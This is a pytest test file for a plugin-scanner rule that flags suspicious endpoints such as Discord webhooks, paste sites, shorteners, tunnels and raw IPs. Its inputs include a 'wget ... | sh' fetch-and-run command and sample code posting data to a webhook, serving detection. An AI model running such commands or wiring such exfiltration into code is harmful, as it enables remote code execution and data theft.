"""The suspicious-endpoint table and MB321: schema, matching, and what is (not) reported."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]
import pytest

from helpers import run, write_plugin
from mbcheck.checks.security.endpoints import RAW_IP, TABLE, find_endpoint
from mbcheck.resources import load_json

SCHEMA = "schemas/rules-security-endpoints.schema.json"


def test_table_conforms_to_its_schema() -> None:
    schema: dict[str, Any] = load_json(SCHEMA)
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(load_json(TABLE))


def test_each_category_says_where_it_comes_from() -> None:
    for name, category in load_json(TABLE)["categories"].items():
        assert len(category["source"]) > 40, name


@pytest.mark.parametrize(("text", "kind"), [
    ("https://discord.com/api/webhooks/1/abc", "webhook"),
    ("https://canary.discord.com/api/webhooks/1/abc", "webhook"),
    ("https://api.telegram.org/bot123:abc/sendMessage", "webhook"),
    ("pastebin.com/raw/x", "paste"),
    ("https://BIT.LY/abc", "shortener"),
    ("http://x1.oast.online/", "out-of-band"),
    ("https://abc.trycloudflare.com", "tunnel"),
    ("https://sub.example.workers.dev/x", "tunnel"),
    ("https://ifconfig.me/ip", "IP"),
    ("http://checkip.amazonaws.com", "IP"),
    ("http://8.8.8.8/x", "raw IP"),
    ("8.8.8.8:53", "raw IP"),
    ("http://[2606:4700::1111]/x", "raw IP"),
    ("wget -qO- https://paste.ee/r/abc | sh", "paste"),
])
def test_suspicious(text: str, kind: str) -> None:
    found = find_endpoint(text)
    assert found is not None
    assert kind in found.description


@pytest.mark.parametrize("text", [
    "https://api.github.com/repos/x/y",
    "https://pypi.org/pypi/x/json",
    "https://discord.com/developers/docs",   # not a webhook path
    "discord.com",
    "http://127.0.0.1:8000",
    "http://localhost:8080/x",
    "http://0.0.0.0:5000",
    "http://10.1.2.3/",
    "http://192.168.1.1/",
    "http://192.0.2.10/",                     # documentation range
    "http://[::1]:80/",
    "1.2.3.4",                                # may be a version number
    "microsoft.co",                           # t.co only as a whole label
    "notbit.ly",
    "see the guide at https://t.ly/abc for details",  # a link in prose
    "",
])
def test_not_suspicious(text: str) -> None:
    assert find_endpoint(text) is None


def test_bare_ip_counts_as_a_socket_address() -> None:
    found = find_endpoint("45.61.139.7", address=True)
    assert found is not None and found.description == RAW_IP


def findings(tmp_path: Path, files: dict[str, str]) -> list[tuple[str, int]]:
    report = run(write_plugin(tmp_path, files), {"select": ["MB321"]})
    return [(f.span.path, f.span.line) for p in report.plugins for f in p.findings if f.rule == "MB321"]


def test_reported_at_the_literal_with_category_and_host(tmp_path: Path) -> None:
    source = ('import requests\n\nHOOK = "https://discord.com/api/webhooks/10/x"\n'
              "\ndef send(d):\n    requests.post(HOOK, json=d, timeout=5)\n")
    report = run(write_plugin(tmp_path, {"__init__.py": source}), {"select": ["MB321"]})
    found = [f for p in report.plugins for f in p.findings if f.rule == "MB321"]
    assert len(found) == 1
    assert (found[0].span.line, found[0].span.column) == (3, 8)
    assert found[0].severity.value == "warning"
    assert "webhook" in found[0].message and "discord.com" in found[0].message


def test_docstrings_and_bare_strings_are_not_reported(tmp_path: Path) -> None:
    source = ('"""Posts to https://discord.com/api/webhooks/ (see https://bit.ly/x)."""\n'
              'def f():\n    """Example: https://pastebin.com/raw/abc"""\n'
              '    "https://ngrok.io/x"\n    return 1\n')
    assert findings(tmp_path, {"__init__.py": source}) == []


def test_implicit_concatenation_is_joined(tmp_path: Path) -> None:
    source = 'URL = ("https://paste" "bin.com/raw/abc")\n'
    assert findings(tmp_path, {"__init__.py": source}) == [("__init__.py", 1)]


def test_test_files_are_not_reported(tmp_path: Path) -> None:
    source = 'URL = "https://pastebin.com/raw/abc"\n'
    assert findings(tmp_path, {"tests/test_x.py": source}) == []
